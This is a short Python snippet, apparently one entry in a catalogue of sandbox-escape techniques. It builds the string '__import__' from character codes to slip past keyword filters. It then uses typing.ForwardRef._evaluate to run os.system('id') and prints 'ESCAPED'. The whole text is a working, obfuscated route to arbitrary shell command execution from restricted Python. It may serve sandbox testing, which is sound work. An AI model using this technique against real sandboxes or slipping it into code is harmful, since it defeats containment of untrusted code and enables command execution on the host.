# class: typing.ForwardRef evaluates a string built at run time
import typing
src = "".join(chr(c) for c in [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]) + "('os').system('id')"
print("ESCAPED", typing.ForwardRef(src)._evaluate(globals(), None, frozenset()))
